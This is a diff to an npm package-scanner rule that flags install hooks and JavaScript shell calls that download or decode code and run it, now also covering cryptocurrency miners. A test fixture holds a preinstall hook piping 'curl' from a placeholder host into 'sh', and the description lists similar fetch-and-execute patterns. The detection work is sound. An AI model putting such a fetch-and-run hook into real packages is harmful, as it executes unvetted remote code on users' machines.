@@ -10,7 +10,7 @@ export const installScriptDownload: JsRule = defineRule({
     severity: 'critical',
     confidence: 'high',
     ecosystems: ['npm'],
-    description: 'A shell command downloads code and pipes it into an interpreter (curl | sh, iwr | iex, base64 -d | sh, powershell -enc).',
+    description: 'A shell command downloads code and runs it (curl | sh, curl -o f && ./f, iwr | iex, base64 -d | sh, powershell -enc) or starts a cryptocurrency miner.',
     examples: {
       positive: [
         { files: { 'package.json': '{"name":"p","scripts":{"preinstall":"curl -s https://x.invalid/i.sh | sh"}}' } },
@@ -22,13 +22,13 @@ export const installScriptDownload: JsRule = defineRule({
   check(ctx, report) {
     for (const s of ctx.installScripts) {
       for (const f of s.facts) {
-        if (f.behaviour !== 'download-exec' && f.behaviour !== 'encoded-exec') continue;
-        report({ path: ctx.manifestPath, line: s.line, evidence: f.command.text, message: `Install hook \`${s.hook}\` downloads or decodes code and runs it: \`${f.command.text.slice(0, 100)}\`.`, trigger: 'install', data: { hosts: f.destinations.map((d) => d.host) } });
+        if (f.behaviour !== 'download-exec' && f.behaviour !== 'encoded-exec' && f.behaviour !== 'miner') continue;
+        report({ path: s.path ?? ctx.manifestPath, line: s.line, evidence: f.command.text, message: `Install hook \`${s.hook}\` downloads or decodes code and runs it: \`${f.command.text.slice(0, 100)}\`.`, trigger: 'install', data: { hosts: f.destinations.map((d) => d.host) } });
       }
     }
     for (const { file, e } of allEvents(ctx)) {
       if (e.sink !== 'exec' || e.shell === undefined) continue;
-      const f = e.shell.find((x) => x.behaviour === 'download-exec' || x.behaviour === 'encoded-exec');
+      const f = e.shell.find((x) => x.behaviour === 'download-exec' || x.behaviour === 'encoded-exec' || x.behaviour === 'miner');
       if (f === undefined) continue;
       const trigger = eventTrigger(file, e);
       report(at(file, e, `JavaScript runs a shell command that downloads or decodes code and executes it: \`${f.command.text.slice(0, 100)}\`.`, { severity: callSeverity(trigger, 'critical') }));
